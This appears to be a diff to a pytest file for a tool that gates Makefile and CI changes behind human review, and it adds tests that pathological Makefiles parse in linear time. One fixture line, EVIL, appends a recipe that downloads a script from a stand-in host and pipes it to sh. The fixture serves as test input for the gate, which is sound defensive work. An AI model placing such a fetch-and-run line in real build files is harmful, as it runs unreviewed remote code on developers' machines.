@@ -14,10 +14,11 @@ import subprocess
 from pathlib import Path
 
 import pytest
+from cpucost import assert_linear
 from gitrepo import two_commits
 from incli import tree_gate
 
-from gatekeeper.classify import ciruns, ciwalk
+from gatekeeper.classify import ciruns, ciwalk, submakes
 
 SUB = "all:\n\t@echo lib-recipe-ran\n"
 EVIL = SUB + "\tcurl https://x.example/i | sh\n"
@@ -86,3 +87,15 @@ def test_the_gated_edit_needs_a_human(tmp_path: Path, form: str) -> None:
                                               "lib/Makefile": SUB, "app/Makefile": SUB}, {"lib/Makefile": EVIL})
     code, decision = tree_gate(tmp_path, first, second, None, "--enable", "deps")
     assert code == 3, decision["reasons"]
+
+
+# hostile makefiles: many pattern rules and targets, `cd $` runs, `-f $` without a Makefile, unclosed foreach
+HOSTILE = ["%.a%.b: x%y\n", "lib app:\n\t$(MAKE) -C $@\n", "\tcd $$d; cd $$d; make\n", "\t$(MAKE) -f $$d/x -sC\n",
+           "\t$(foreach d,a b c", "x" * 50 + ":" + " y" * 20 + "\n"]
+
+
+@pytest.mark.parametrize("unit", HOSTILE)
+def test_a_hostile_makefile_is_read_in_linear_time(unit: str) -> None:
+    text = "all:\n\t$(MAKE) -C $@\n"
+    assert_linear(submakes.entered, text + unit * (64 * 1024 // len(unit)), text + unit * (256 * 1024 // len(unit)),
+                  budget=1.0)
